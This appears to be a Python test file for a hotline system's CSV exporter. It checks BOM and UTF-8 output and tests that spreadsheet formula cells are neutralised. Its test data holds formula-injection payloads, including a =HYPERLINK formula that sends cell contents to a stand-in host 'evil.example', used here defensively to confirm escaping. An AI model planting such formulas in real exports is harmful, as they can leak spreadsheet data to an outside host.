"""The CSV exports (web/csv_export.py): UTF-8 with a byte-order mark, so Excel on a Chinese
Windows shows 供热 and not mojibake, and text cells that a spreadsheet would run as a formula
(= + - @, tab, CR) neutralised with a leading quote; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import replace
from pathlib import Path
from typing import Any

from aiohttp.test_utils import TestClient, TestServer, unused_port

from hotline import config
from hotline.bus import Bus
from hotline.cases.store import CaseStore
from hotline.graph import build_services
from hotline.web import csv_export
from hotline.web.app import build_app

SITE = Path(__file__).resolve().parents[1] / "etc/site.example.toml"
BOM = b"\xef\xbb\xbf"


def parse(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"))))


def test_the_bytes_start_with_the_bom_and_chinese_is_utf8() -> None:
    data = csv_export.encode([["topic", "cases"], ["供热", 3]])
    assert data[:3] == BOM
    assert "供热".encode() in data and parse(data) == [["topic", "cases"], ["供热", "3"]]


def test_formula_cells_are_neutralised_numbers_are_not() -> None:
    rows = [["description", "count", "ratio", "none", "flag"],
            ['=HYPERLINK("http://evil.example/?"&A1,"click")', -3, -0.5, None, True],
            ["+86 139", 0, 1.5, "", False],
            ["-3", 7, 2, "@SUM(A1:A2)", True],
            ["\tcmd", 1, 1, "\rx", True],
            ["a=b", 1, 1, "plain 文本", True]]
    table = parse(csv_export.encode(rows))
    assert table[1] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "-3", "-0.5", "", "1"]
    assert table[2] == ["'+86 139", "0", "1.5", "", "0"]
    assert table[3] == ["'-3", "7", "2", "'@SUM(A1:A2)", "1"]  # "-3" given as text is text: quoted
    assert table[4] == ["'\tcmd", "1", "1", "'\rx", "1"]
    assert table[5] == ["a=b", "1", "1", "plain 文本", "1"]  # only a leading prefix matters


def test_the_cli_file_is_the_same_bytes(tmp_path: Path) -> None:
    rows = [["slot", "gap"], ["09:00", -2]]
    csv_export.write_file(tmp_path / "s.csv", rows)
    assert (tmp_path / "s.csv").read_bytes() == csv_export.encode(rows)


async def test_the_history_export_over_http(tmp_path: Path) -> None:
    """An operator whose name (from the site file) starts with '=' comes out quoted in the
    operators' history CSV, which starts with the BOM; the figures are plain numbers."""
    site = config.load(SITE, {})
    first = site.operators[0]
    evil = '=HYPERLINK("http://evil.example","王芳")'
    settings = replace(site, operators=(replace(first, name=evil), *site.operators[1:]))
    store = CaseStore(tmp_path / "c.db")
    await store.open()
    graph = build_services(settings, store, None, Bus())  # type: ignore[arg-type]
    port = unused_port()
    app = build_app(replace(graph.web("secret-token"), settings=replace(
        settings, http=replace(settings.http, port=port))))
    client: TestClient[Any, Any] = TestClient(TestServer(app, port=port))
    await client.start_server()
    try:
        at = dt.datetime.combine(dt.date.today(), dt.time(9, 0)).timestamp()
        await store.create({"uniqueid": "c1", "linkedid": "c1", "caller_number": "13912341234", "language": "zh",
                            "topic": "housing", "ivr_path": "", "queue": "hl-zh-housing", "queued_at": at})
        await store.update("c1", {"state": "ended", "answered_at": at + 5, "wait_seconds": 5,
                                  "operator": first.extension, "ended_at": at + 125, "talk_seconds": 120})
        r = await client.get(f"/history.csv?kind=operators&from={dt.date.today()}",
                             headers={"Authorization": "Bearer secret-token"})
        assert r.status == 200 and r.headers["Content-Type"] == "text/csv; charset=utf-8"
        data = await r.read()
        table = parse(data)
        assert table[0] == ["operator", "name", "calls", "talk", "pause", "wrapup"]
        row = next(t for t in table[1:] if t[0] == first.extension)
        assert row[1] == "'" + evil and row[2:4] == ["1", "120.0"]
    finally:
        await client.close()
        await store.close()
